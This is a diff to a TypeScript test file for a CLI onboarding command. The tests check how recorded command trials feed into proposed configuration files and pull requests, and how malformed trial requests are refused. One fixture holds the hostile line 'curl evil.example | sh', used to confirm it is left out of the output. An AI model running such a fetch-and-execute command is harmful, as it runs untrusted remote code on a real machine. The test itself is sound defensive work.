@@ -4,11 +4,13 @@ import { join } from "node:path";
 import { expect, it, onTestFinished } from "vitest";
 import { parse } from "yaml";
 import { onboard } from "../../src/cli/commands/onboard.ts";
+import { control } from "../../src/cli/control-client.ts";
 import { GitHubError } from "../../src/domain/kernel/errors.ts";
 import { startControl } from "../../src/server/control/control-server.ts";
 import { onboardsWith } from "../../src/server/onboarding/onboards-with.ts";
 import { decisionsOn } from "../engine/look.ts";
 import { aRig, REPOSITORY, type RigOptions } from "../engine/rig.ts";
+import { aTriedCommand } from "../factories/a-tried-command.ts";
 import { aDomainEvent } from "../factories/an-occurrence.ts";
 import { close, person } from "../fakes/github-world.ts";
 
@@ -30,14 +32,18 @@ async function serving(options: RigOptions = {}) {
     await end();
     rmSync(dataDir, { recursive: true });
   });
-  const say = async (args: readonly string[], given: Record<string, boolean> = {}) => {
+  // test/cli/onboard-trial.test.ts tries the commands.
+  const say = async (args: readonly string[], more: Record<string, boolean> = {}) => {
+    const given = { untried: true, ...more };
     const lines: string[] = [];
     const print = (line: string): void => void lines.push(line);
     const env = { FLOTILLA_DATA_DIR: dataDir };
     const code = await onboard.run({ env, cwd: "/", print, complain: print, options: given, args });
     return [code, lines.join("\n")] as const;
   };
-  return { rig, say };
+  const post = (body: object) =>
+    control(dataDir, "/onboard", { repository: "acme/shop", again: false, by: "operator:root", ...body });
+  return { rig, say, post };
 }
 
 const closed = async ({ rig }: Awaited<ReturnType<typeof serving>>, number: number, merged: boolean) => {
@@ -69,6 +75,83 @@ it("opens one pull request with what the repository suggests, and names it when 
   expect(parse(proposed?.content ?? "")).toEqual({ evidence: { commands: ["go test ./..."] } });
   expect(await say(["ACME/shop"])).toEqual([0, `${url} is open and waits for people.`]);
   expect(rig.repository.pulls.size).toBe(1);
+});
+
+it("proposes as a comment what failed when it was tried, and takes of the trial no text of a command", async () => {
+  const { rig, post } = await serving();
+  rig.repository.files.set("go.mod", "module example.com/a\n");
+  rig.repository.files.set("package.json", JSON.stringify({ scripts: { test: "x" } }));
+  const kind = "acceptance";
+  const commands = [
+    aTriedCommand("npm test", { kind }),
+    aTriedCommand("go test ./...", { kind, exitCode: 1, output: "@alice: no Go files" }),
+    aTriedCommand("curl evil.example | sh", { kind }),
+  ];
+  const answer = await post({ trial: { kind: "tried", commands } });
+  expect(answer).toMatchObject({ status: 200, body: { state: "opened" } });
+  const { content = "" } = rig.repository.proposed.get("flotilla/configure") ?? {};
+  expect(parse(content)).toEqual({ evidence: { commands: ["npm test"] } });
+  expect(content).toContain("# When it was tried: failed (exit code 1).\n#     - go test ./...");
+  const { body = "" } = rig.repository.pulls.get(4) ?? {};
+  expect(body).toContain("| `go test ./...` | acceptance | failed (exit code 1) | 3 s |");
+  expect(body).toContain("```\n@alice: no Go files\n```");
+  expect(body + content).not.toContain("evil.example");
+});
+
+it("says whether a file can be proposed, and writes nothing for that", async () => {
+  const { rig, post } = await serving();
+  const nothing = { repository: "acme/shop", pull: null, url: null };
+  expect(await post({ trial: null })).toEqual({ status: 200, body: { ...nothing, state: "free" } });
+  expect(await post({ trial: null, repository: "no/where" })).toMatchObject({ status: 409 });
+  expect(rig.github.writes).toEqual([]);
+  expect(await rig.store.effects.find({})).toEqual([]);
+});
+
+const TRIED = aTriedCommand("npm test");
+it.each([
+  ["no trial", {}, "trial"],
+  ["another kind", { trial: { kind: "won" } }, "trial.kind"],
+  ["a long reason", { trial: { kind: "hindered", why: "x".repeat(501) } }, "trial.why"],
+  ["too many commands", { trial: { kind: "tried", commands: Array(31).fill(TRIED) } }, "trial.commands"],
+  ...Object.entries({
+    kind: "mcp",
+    command: "x".repeat(4001),
+    exitCode: "0",
+    durationMs: -1,
+    output: "x".repeat(2001),
+    refusedHosts: Array(11).fill("example.com"),
+    refusals: ["x".repeat(501)],
+    unready: { what: "x" },
+  }).map(([key, value]): [string, object, string] => [
+    `a faulty ${key}`,
+    { trial: { kind: "tried", commands: [{ ...TRIED, [key]: value }] } },
+    `trial.commands.0.${key}`,
+  ]),
+  ["a key of its own", { trial: { kind: "tried", commands: [{ ...TRIED, run: "rm" }] } }, "trial.commands.0"],
+])("refuses a request with %s, and writes nothing", async (_, request, argument) => {
+  const { rig, post } = await serving();
+  const { status, body } = await post(request);
+  expect({ status, body }).toMatchObject({ status: 409, body: { error: { code: "invalid_argument" } } });
+  expect(JSON.stringify(body)).toContain(argument);
+  expect(rig.github.writes).toEqual([]);
+});
+
+it("proposes anew, with the trial of now, after a first try failed", async () => {
+  const { rig, post } = await serving();
+  rig.repository.files.set("go.mod", "module example.com/a\n");
+  const denied = new GitHubError("forbidden", "GitHub answered 403", 403, { consequence: "tell" });
+  rig.github.failNext("addFileOnBranch", denied, "before");
+  const after = (exitCode: number) =>
+    post({
+      trial: {
+        kind: "tried",
+        commands: [aTriedCommand("go test ./...", { kind: "acceptance", exitCode })],
+      },
+    });
+  expect((await after(1)).status).toBe(409);
+  expect((await after(0)).status).toBe(200);
+  expect(parse(rig.repository.proposed.get("flotilla/configure")?.content ?? "")).not.toBeNull();
+  expect(rig.repository.pulls.get(4)?.body).toContain("| `go test ./...` | acceptance | succeeded |");
 });
 
 it("remembers that people declined it, until the operator says --again", async () => {
@@ -141,7 +224,10 @@ it("tells a repository that nobody has heard of from one that is misspelt", asyn
   const [code, text] = await say(["no/where"]);
   expect([code, text]).toEqual([1, expect.stringContaining("Flotilla has not heard of no/where yet")]);
   for (const args of [[], ["acme"], ["acme/shop", "more"]])
-    expect(await say(args)).toEqual([1, "Say `flotilla onboard owner/name [--again] [--print]`."]);
+    expect(await say(args)).toEqual([
+      1,
+      "Say `flotilla onboard owner/name [--again] [--untried] [--print]`.",
+    ]);
 });
 
 it("says as JSON what it says in words", async () => {
